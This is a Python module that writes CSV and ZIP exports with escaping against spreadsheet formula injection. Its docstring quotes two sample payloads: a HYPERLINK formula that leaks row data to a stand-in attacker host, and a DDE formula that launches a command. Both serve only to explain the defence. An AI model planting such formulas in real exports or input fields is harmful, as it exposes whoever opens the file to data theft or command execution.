"""The one CSV writer of every file Trellis hands out (reports, the audit trail…).

A spreadsheet opening a CSV runs any cell that starts like a formula: a person named
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` becomes a link that sends the row
away, ``+SUM(1+1)*cmd|' /C calc'!A0`` a command. OWASP's rule (CSV injection): a *text*
cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading
single quote, so the spreadsheet shows it as text. Numbers (``int``, ``float``,
``Decimal``) are written as they are, so ``-2`` stays a number a spreadsheet can sum;
the text ``"-2+3"`` is escaped. ``None`` is an empty cell.

Several tables at once (a report and its detail tables) go out as one ZIP of such CSVs
(``write_csv_zip``).

No module outside ``core`` calls ``csv.writer`` for a download (a test reads the tree);
demo and bench code that fabricates *input* files for the importers is the exception.
"""

import csv
import io
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """Return ``value`` ready for a CSV cell: text that a spreadsheet would run as a
    formula gets a leading ``'``; numbers stay numbers; ``None`` is ``""``."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | Decimal):
        return value
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(header: Sequence, rows: Iterable[Sequence]) -> str:
    """The CSV text of a header row and data rows, every cell through ``safe_cell``."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([safe_cell(label) for label in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def write_csv_zip(files: Mapping[str, tuple[Sequence, Iterable[Sequence]]]) -> bytes:
    """A ZIP of CSV files, ``name -> (header, rows)``, each written by ``write_csv``.

    The members are stored, not deflated: CSV text is small next to a page, and a
    stored member keeps its text readable in the bytes, so the private-data sweep
    (``tests/gates/test_private_data.py``), which searches every response's text,
    sees into a ZIP download as it does into a CSV one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, (header, rows) in files.items():
            archive.writestr(name, write_csv(header, rows))
    return out.getvalue()
